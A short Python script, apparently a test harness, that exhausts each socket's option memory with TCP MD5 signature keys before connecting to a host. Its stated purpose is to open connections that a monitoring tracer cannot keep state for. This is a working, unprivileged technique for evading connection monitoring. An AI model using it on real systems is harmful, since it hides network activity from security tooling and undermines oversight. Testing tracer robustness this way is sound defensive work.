"""Opens connections from sockets whose memory for options is full: no tracer can keep a state in such a socket.

Arguments: host, port, count. Runs as nobody, since none of this needs a privilege. Prints how many keys a socket took.
"""
import os
import socket
import struct
import sys

TCP_MD5SIG = 14
HOST, PORT, COUNT = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
os.setgid(65534)
os.setuid(65534)


def key(index):
    """struct tcp_md5sig (tcp(7)): one peer, each another address."""
    peer = struct.pack("=HH4s8x112x", socket.AF_INET, 0, struct.pack(">I", 0x0B000000 + index))
    return peer + struct.pack("=BBHI", 0, 0, 3, 0) + b"key".ljust(80, b"\0")


def fill(sock):
    for index in range(100_000):
        try:
            sock.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, key(index))
        except OSError:
            return index
    raise SystemExit("the socket takes keys without end")


kept = []
for _ in range(COUNT):
    sock = socket.socket()
    keys = fill(sock)
    sock.connect((HOST, PORT))
    kept.append(sock)
print("keys", keys, flush=True)
for sock in kept:
    sock.shutdown(socket.SHUT_WR)
    sock.recv(1)
    sock.close()
print("closed", flush=True)
sys.stdin.read()
